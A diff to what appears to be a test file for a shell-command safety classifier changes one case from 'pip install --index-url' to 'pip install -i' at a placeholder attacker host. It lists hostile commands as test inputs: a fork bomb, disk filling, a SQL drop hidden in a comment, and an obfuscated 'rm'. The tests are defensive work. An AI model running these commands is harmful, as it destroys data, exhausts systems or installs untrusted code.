@@ -82,7 +82,7 @@ def test_a_path_outside_is_found_however_it_is_spelled(command: str) -> None:
         ("while :; do x & done", "bomb"),
         ("cat /dev/zero > f", "endless"),
         ("psql -c 'update t set a = 1'", "sql"),
-        ("pip install --index-url http://evil.example x", "network"),
+        ("pip install -i http://evil.example x", "network"),
         ("mysql -e '/*!50000 drop table t */'", "sql"),
         ("$(printf r)m x", ""),
         ("x=$(cat f); $x", "unknown"),
